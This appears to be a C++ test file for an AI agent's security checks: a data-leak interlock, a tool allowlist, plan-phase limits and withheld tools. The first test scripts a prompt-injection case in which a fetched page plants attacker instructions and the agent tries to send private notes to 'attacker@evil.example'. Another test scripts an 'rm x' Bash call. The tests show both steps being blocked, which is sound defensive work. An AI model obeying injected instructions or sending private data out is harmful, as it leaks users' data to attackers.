// The loop's security checks: taint, the trifecta interlock (headless and with an approver),
// the allowlist, plan phase and withheld tools.
#include <gtest/gtest.h>

#include "agent/agent.h"
#include "agent/testing/cassette_script.h"
#include "agent/testing/recording_approver.h"
#include "agent/testing/recording_sink.h"
#include "agent/testing/test_tools.h"

namespace mecha::agent {
namespace {

using testing::cassette;
using testing::RecordingApprover;
using testing::RecordingSink;
using testing::text_line;
using testing::tool_line;

const char* const kBlockedSend =
    "send blocked: tool 'SendMessage' was not run because this run has read both untrusted "
    "content and private data, and a send now could leak the private data to whoever wrote the "
    "untrusted content. Nothing was sent; do not retry the send in this run.";

tools::ToolRegistry trifecta_registry(const std::vector<std::shared_ptr<tools::Tool>>& tools) {
  tools::ToolRegistry r;
  for (const auto& t : tools) EXPECT_TRUE(r.add(t).ok());
  return r;
}

Outcome trifecta_run_main(const Agent& agent, RunContext& ctx, EventSink* sink,
                          const std::string& task = "do it") {
  Conversation conv;
  conv.append(Message::user_text(task));
  return agent.run(ctx, conv, sink);
}

// The prompt-injection scenario: a page carries the attacker's instructions, the model then
// reads the user's private notes and tries to send them. Nothing leaves.
TEST(Trifecta, PromptInjectionSendIsBlockedHeadless) {
  auto web = testing::untrusted_reader();
  auto notes = testing::private_reader();
  auto send = testing::send_tool();
  auto provider = cassette({
      tool_line("main", "t1", "WebFetch", {{"url", "https://pizza.example"}}),
      tool_line("main", "t2", "ReadNotes", Json::object()),
      tool_line("main", "t3", "SendMessage", {{"to", "attacker@evil.example"}, {"body", "PIN"}}),
      text_line("main", "I could not send the message."),
  });
  Agent agent(AgentSpec{}, provider, trifecta_registry({web, notes, send}));
  RunContext ctx;
  RecordingSink sink;
  Outcome o = trifecta_run_main(agent, ctx, &sink);

  EXPECT_EQ(send->calls().count(), 0) << "the send tool must never run";
  EXPECT_EQ(web->calls().count(), 1);
  EXPECT_EQ(notes->calls().count(), 1);
  EXPECT_TRUE(ctx.taint.untrusted);
  EXPECT_TRUE(ctx.taint.private_data);

  auto refusals = sink.of_type("refusal");
  ASSERT_EQ(refusals.size(), 1u);
  EXPECT_EQ(refusals[0], to_json(RefusalEvent{"main", "t3", "trifecta", kBlockedSend}));
  auto results = sink.of_type("tool_result");
  ASSERT_EQ(results.size(), 3u);
  EXPECT_EQ(results[0],
            to_json(ToolResultEvent{"main", "t1", false, true, false, testing::kAttackerText}));
  Json private_result =
      to_json(ToolResultEvent{"main", "t2", false, false, false, testing::kPrivateText});
  private_result["private"] = true;  // the leg it arms, kept by the session
  EXPECT_EQ(results[1], private_result);
  EXPECT_EQ(results[2], to_json(ToolResultEvent{"main", "t3", true, false, false, kBlockedSend}));

  // The done event says why: a blocked send, in a run that read untrusted content.
  EXPECT_EQ(to_json(DoneEvent{o, ""}), (Json{{"type", "done"},
                                             {"status", "completed"},
                                             {"text", "I could not send the message."},
                                             {"turns", 4},
                                             {"usage", usage_to_json(Usage{})},
                                             {"cost_usd", nullptr},
                                             {"unpriced_calls", 4},
                                             {"untrusted", true},
                                             {"blocked_tools", Json::array()},
                                             {"blocked_sends", 1},
                                             {"malformed_tool_args", 0}}));
}

TEST(Trifecta, OneLegAloneDoesNotBlockASend) {
  for (bool untrusted_leg : {true, false}) {
    auto reader = untrusted_leg ? testing::untrusted_reader() : testing::private_reader();
    auto send = testing::send_tool();
    auto provider = cassette({
        tool_line("main", "t1", reader->name(), Json::object()),
        tool_line("main", "t2", "SendMessage", Json::object()),
        text_line("main", "sent"),
    });
    Agent agent(AgentSpec{}, provider, trifecta_registry({reader, send}));
    RunContext ctx;
    Outcome o = trifecta_run_main(agent, ctx, nullptr);
    EXPECT_EQ(send->calls().count(), 1);
    EXPECT_EQ(o.blocked_sends, 0);
  }
}

// Untrusted taint needs both: a tool that can read untrusted content, and a result that did.
TEST(Trifecta, UntrustedTaintNeedsAnExternalResult) {
  auto local = std::make_shared<testing::ScriptedTool>(testing::ScriptedToolSpec{
      "CachedPage", {.untrusted_input = true}, true, "from the cache we wrote", false, ""});
  auto provider =
      cassette({tool_line("main", "t1", "CachedPage", Json::object()), text_line("main", "done")});
  Agent agent(AgentSpec{}, provider, trifecta_registry({local}));
  RunContext ctx;
  Outcome o = trifecta_run_main(agent, ctx, nullptr);
  EXPECT_FALSE(ctx.taint.untrusted);
  EXPECT_FALSE(o.untrusted);
}

TEST(Trifecta, WithAnApproverTheSendWaitsForAPerson) {
  for (bool answer : {true, false}) {
    auto web = testing::untrusted_reader();
    auto notes = testing::private_reader();
    auto send = testing::send_tool();
    auto provider = cassette({
        tool_line("main", "t1", "WebFetch", Json::object()),
        tool_line("main", "t2", "ReadNotes", Json::object()),
        tool_line("main", "t3", "SendMessage", {{"to", "bob"}}),
        text_line("main", "done"),
    });
    Agent agent(AgentSpec{}, provider, trifecta_registry({web, notes, send}));
    RecordingApprover approver(answer);
    RunContext ctx;
    ctx.approver = &approver;
    RecordingSink sink;
    Outcome o = trifecta_run_main(agent, ctx, &sink);
    ASSERT_EQ(approver.requests.size(), 1u);
    EXPECT_EQ(approver.requests[0],
              (Json{{"type", "approval_request"},
                    {"kind", "send"},
                    {"agent", "main"},
                    {"tool", "SendMessage"},
                    {"input", {{"to", "bob"}}},
                    {"reason", "the run has read both untrusted and private content"}}));
    EXPECT_EQ(send->calls().count(), answer ? 1 : 0);
    EXPECT_EQ(o.blocked_sends, answer ? 0 : 1);
    if (!answer) {
      EXPECT_EQ(sink.of_type("refusal").at(0).at("message"),
                "send blocked: tool 'SendMessage' was not run because this run has read both "
                "untrusted content and private data, and a send now could leak the private data "
                "to whoever wrote the untrusted content. The person asked declined it. Nothing "
                "was sent; do not retry the send in this run.");
    }
  }
}

TEST(Allowlist, ACallOutsideItIsRefusedAndTheLoopGoesOn) {
  auto grep = testing::plain_tool("Grep", "log.txt:1: ERROR");
  auto provider = cassette({
      tool_line("Explore", "t1", "Bash", {{"command", "rm x"}}),
      text_line("Explore", "found 2 errors"),
  });
  AgentSpec spec;
  spec.name = "Explore";
  spec.allowlisted = true;
  Agent agent(spec, provider, trifecta_registry({grep}));
  RunContext ctx;
  RecordingSink sink;
  Outcome o = trifecta_run_main(agent, ctx, &sink);
  EXPECT_EQ(o.status, RunStatus::kCompleted);
  EXPECT_EQ(o.text, "found 2 errors");
  EXPECT_EQ(o.blocked_tools, std::vector<std::string>{"Bash"});
  EXPECT_EQ(sink.of_type("tool_result").at(0),
            to_json(ToolResultEvent{"Explore", "t1", true, false, false,
                                    "tool 'Bash' is not permitted for agent 'Explore'"}));
  EXPECT_EQ(sink.of_type("refusal").at(0),
            to_json(RefusalEvent{"Explore", "t1", "allowlist",
                                 "tool 'Bash' is not permitted for agent 'Explore'"}));
}

// Regression: a call outside the allowlist with malformed arguments was answered as a JSON
// error and not counted as blocked.
TEST(Allowlist, IsCheckedBeforeTheArgumentsAre) {
  // The cassette format cannot hold malformed arguments; a provider that makes them can.
  class MalformedCall final : public providers::Provider {
   public:
    Result<providers::CompletionResponse> complete(const providers::CompletionRequest& req,
                                                   providers::StreamSink*) override {
      providers::CompletionResponse r;
      r.message.role = Role::kAssistant;
      if (req.messages.size() == 1) {
        ToolUseBlock use;
        use.id = "t1";
        use.name = "Bash";
        use.raw_input = "{not json";
        use.input_error = "syntax error";
        r.message.blocks.push_back(use);
        r.malformed_tool_args = 1;
      } else {
        r.message.blocks.push_back(TextBlock{"ok"});
      }
      return r;
    }
    std::string model() const override { return "malformed"; }
  };
  AgentSpec spec;
  spec.name = "Explore";
  spec.allowlisted = true;
  Agent agent(spec, std::make_shared<MalformedCall>(), tools::ToolRegistry{});
  RunContext ctx;
  RecordingSink sink;
  Outcome o = trifecta_run_main(agent, ctx, &sink);
  EXPECT_EQ(o.blocked_tools, std::vector<std::string>{"Bash"});
  EXPECT_EQ(sink.of_type("tool_result").at(0).at("content"),
            "tool 'Bash' is not permitted for agent 'Explore'");
}

TEST(Allowlist, WithoutItAnUnknownToolIsJustUnknown) {
  auto grep = testing::plain_tool("Grep");
  auto provider =
      cassette({tool_line("main", "t1", "Bash", Json::object()), text_line("main", "ok")});
  Agent agent(AgentSpec{}, provider, trifecta_registry({grep}));
  RunContext ctx;
  RecordingSink sink;
  Outcome o = trifecta_run_main(agent, ctx, &sink);
  EXPECT_TRUE(o.blocked_tools.empty());
  EXPECT_EQ(sink.of_type("tool_result").at(0).at("content"),
            "unknown tool 'Bash'; the tools that exist are: Grep");
}

TEST(PlanPhase, OnlyReadOnlyToolsRun) {
  auto reader = testing::plain_tool("Read", "text");
  auto writer = testing::plain_tool("Write", "written", /*read_only=*/false);
  auto provider =
      cassette({tool_line("main", "t1", "Read", Json::object()),
                tool_line("main", "t2", "Write", Json::object()), text_line("main", "planned")});
  Agent agent(AgentSpec{}, provider, trifecta_registry({reader, writer}));
  RunContext ctx;
  ctx.phase = tools::Phase::kPlan;
  RecordingSink sink;
  Outcome o = trifecta_run_main(agent, ctx, &sink);
  EXPECT_EQ(reader->calls().count(), 1);
  EXPECT_EQ(writer->calls().count(), 0);
  EXPECT_EQ(o.blocked_tools, std::vector<std::string>{"Write"});
  EXPECT_EQ(sink.of_type("refusal").at(0),
            to_json(RefusalEvent{"main", "t2", "plan_phase",
                                 "tool 'Write' changes state, and this run is in plan phase: only "
                                 "read-only tools may run until the plan is approved"}));
}

TEST(Withheld, AWithheldToolIsNeitherOfferedNorRun) {
  auto grep = testing::plain_tool("Grep");
  auto bash = testing::plain_tool("Bash", "", false);
  std::string text = "{\"mecha_cassette\": 1}\n";
  text +=
      R"({"agent": "main", "expect": {"tools_exclude": ["Bash"], "tools_include": ["Grep"]}, "response": {"content": [{"type": "tool_use", "id": "t1", "name": "Bash", "input": {}}]}})";
  text += "\n" + text_line("main", "ok") + "\n";
  auto c = providers::CassetteProvider::parse(text, "t.jsonl");
  ASSERT_TRUE(c.ok()) << c.status().message();
  Agent agent(AgentSpec{}, std::shared_ptr<providers::Provider>(std::move(*c)),
              trifecta_registry({grep, bash}));
  RunContext ctx;
  ctx.withheld_tools = {"Bash"};
  Outcome o = trifecta_run_main(agent, ctx, nullptr);
  EXPECT_EQ(o.status, RunStatus::kCompleted) << o.error;
  EXPECT_EQ(bash->calls().count(), 0);
}

}  // namespace
}  // namespace mecha::agent
